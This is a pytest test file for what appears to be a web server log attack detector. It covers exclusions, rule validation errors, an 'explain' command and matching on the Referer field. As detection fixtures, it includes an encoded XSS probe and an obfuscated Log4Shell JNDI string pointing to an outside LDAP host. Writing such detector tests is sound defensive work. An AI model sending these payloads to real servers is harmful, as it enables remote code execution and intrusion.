    """Choosing packs keeps the shipped exclusions (they narrow rules, they match nothing)."""
    ruleset = RulesConfig(rules_dir=None, packs=("injection",)).ruleset
    assert "open-webui-search-text" in {x.id for x in ruleset.exclusions}


def test_bad_exclusions_are_reported_with_file_id_key_and_reason(tmp_path: Path) -> None:
    """An exclusion without routes, parameters or rules, or with a bad status, is refused
    naming the file, the table, the key and the reason."""
    no_params = LOCAL_EXCLUSION.replace('params = ["Q"]\n', "")
    bad_status = LOCAL_EXCLUSION.replace("wiki-search", "bad-status").replace('200, "3xx"', '"2xy"')
    bad = write(tmp_path, "bad.toml", no_params + bad_status)
    with pytest.raises(RulesError) as info:
        load_rules(tmp_path, builtin=False)
    text = "\n".join(info.value.problems)
    assert (
        f"{bad}: exclusions[0] (id 'wiki-search'): <exclusion>: an enabled exclusion needs params"
        in text
    )
    assert f"{bad}: exclusions[1] (id 'bad-status'): status" in text


def test_explain_says_which_exclusion_excused_a_rule(capsys: pytest.CaptureFixture[str]) -> None:
    """explain shows the rule that matched and the exclusion that took it off."""
    line = (
        '192.0.2.7 - - [01/Jan/2025:00:00:00 +0000] "GET /api/v1/chats/search?text='
        '%3Cscript%3E HTTP/1.1" 200 5 "-" "Mozilla/5.0"'
    )
    assert main(["explain", line, "--json"]) == 0
    record = json.loads(capsys.readouterr().out.splitlines()[0])
    assert [(r["id"], r["excused_by"]) for r in record["rules"]] == [
        ("xss-probe", "open-webui-search-text")
    ]
    assert record["detectors"] == []


REFERER_RULE = """
[[rules]]
id = "local-referer-spam"
description = "referer spam from a known spam domain"
match.referer.contains = ["spam.example"]
tests = [{ request = "GET / HTTP/1.1", referer = "https://spam.example/buy", status = 200 }]
"""


def test_a_rule_matches_the_referer_field_and_any_includes_it(tmp_path: Path) -> None:
    """A ``referer`` condition matches the logged Referer only (not one missing), and an
    ``any`` condition (log4shell) sees a payload sent in the Referer."""
    write(tmp_path, "r.toml", REFERER_RULE)
    ruleset = load_rules(tmp_path, builtin=False)
    matcher = Matcher(ruleset.rules)
    spam = req("/", status=200)._replace(referer="https://SPAM.example/buy")
    assert [r.id for r in matcher.match(spam)[0]] == ["local-referer-spam"]
    assert matcher.match(req("/spam.example", status=200))[0] == []
    assert matcher.match(req("/", agent="spam.example", status=200))[0] == []
    shipped = Matcher(load_rules(None).rules)
    probe = req("/", status=200)._replace(referer="${jnd${sys:x:-i}:ldap://198.51.100.7/a}")
    assert [r.id for r in shipped.match(probe)[0]] == ["log4shell"]
    assert shipped.match(probe._replace(referer="https://example.com/${WEBLOC}"))[0] == []
